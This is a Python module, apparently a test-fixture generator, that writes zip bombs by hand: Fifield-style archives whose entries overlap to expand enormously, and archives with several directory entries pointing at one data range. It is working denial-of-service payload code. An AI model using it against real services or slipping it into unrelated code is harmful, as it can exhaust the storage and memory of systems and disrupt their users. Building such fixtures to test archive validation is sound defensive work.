"""Build hostile ZIP archives byte by byte, the way an attacker would.

``quoted_overlap_zip`` follows David Fifield's "better zip bomb" (2019): every
entry's deflate stream starts with a stored block that quotes the next entry's
local header, then runs on into that entry's data, so all entries share one
compressed kernel. ``shared_range_zip`` points several central-directory entries
at one local header's data. Both are real archives: Python's own ``zipfile``
reads them without complaint.
"""

from __future__ import annotations

import struct
import zlib
from pathlib import Path

_LOCAL = struct.Struct("<4s5H3L2H")
_CENTRAL = struct.Struct("<4s6H3L5H2L")
_END = struct.Struct("<4s4H2LH")


def _local(name: bytes, crc: int, csize: int, usize: int, method: int = 8) -> bytes:
    return _LOCAL.pack(b"PK\x03\x04", 20, 0, method, 0, 0x21, crc, csize, usize, len(name), 0) + name


def _central(name: bytes, crc: int, csize: int, usize: int, offset: int, method: int = 8) -> bytes:
    return _CENTRAL.pack(
        b"PK\x01\x02", 20, 20, 0, method, 0, 0x21, crc, csize, usize, len(name), 0, 0, 0, 0, 0, offset
    ) + name


def _end(count: int, cd_size: int, cd_offset: int) -> bytes:
    return _END.pack(b"PK\x05\x06", 0, 0, count, count, cd_size, cd_offset, 0)


def quoted_overlap_zip(path: Path, entries: int, kernel_bytes: int) -> int:
    """Write a Fifield-style bomb; returns the bytes the whole archive would unpack to."""
    plain = bytes(kernel_bytes)
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    kernel = comp.compress(plain) + comp.flush()
    names = [f"s/{i:04d}.dcm".encode() for i in range(entries)]
    # Work backwards: entry i unpacks to the next entry's local header, then to its content.
    headers: list[bytes] = [b""] * entries
    sizes: list[tuple[int, int, int]] = [(0, 0, 0)] * entries
    content = plain
    sizes[-1] = (zlib.crc32(plain), len(kernel), len(plain))
    headers[-1] = _local(names[-1], *sizes[-1])
    for i in range(entries - 2, -1, -1):
        quoted = headers[i + 1]
        content = quoted + content
        sizes[i] = (zlib.crc32(content), 5 + len(quoted) + sizes[i + 1][1], len(content))
        headers[i] = _local(names[i], *sizes[i])
    body = bytearray()
    offsets = []
    for i in range(entries):
        offsets.append(len(body))
        body += headers[i]
        if i < entries - 1:  # a stored, non-final deflate block holding the next header
            quoted = headers[i + 1]
            body += struct.pack("<BHH", 0, len(quoted), 0xFFFF ^ len(quoted))
    body += kernel
    cd = b"".join(_central(names[i], *sizes[i], offsets[i]) for i in range(entries))
    path.write_bytes(bytes(body) + cd + _end(entries, len(cd), len(body)))
    return sum(s[2] for s in sizes)


def shared_range_zip(path: Path, entries: int, data: bytes) -> None:
    """Several directory entries, one set of compressed bytes (all named alike in their headers)."""
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = comp.compress(data) + comp.flush()
    crc = zlib.crc32(data)
    name = b"s/0000.dcm"
    body = _local(name, crc, len(packed), len(data)) + packed
    cd = b"".join(_central(name if i == 0 else f"s/{i:04d}.dcm".encode(), crc, len(packed), len(data), 0)
                  for i in range(entries))
    path.write_bytes(body + cd + _end(entries, len(cd), len(body)))
